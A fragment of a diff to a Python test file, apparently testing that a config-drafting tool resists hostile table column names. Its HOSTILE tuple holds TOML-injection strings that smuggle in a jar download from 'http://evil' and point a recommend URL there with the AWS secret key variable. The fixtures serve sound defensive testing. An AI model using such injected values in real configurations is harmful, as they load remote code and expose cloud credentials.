@@ -154,7 +154,7 @@ def test_a_missing_folder_is_named(tmp_path: Path):
         draft_config("t", look(WINES), tmp_path / "no" / "lakewake.toml")
 
 
-#: Column names of a table that somebody else wrote.
+#: Column names of a table that an attacker wrote.
 HOSTILE = (
     'title"\n[spark]\njars = "http://evil/x.jar"\n#',
     "title\n[recommend]\nurl = 'http://evil'\nkey_env = 'AWS_SECRET_ACCESS_KEY'\n#",
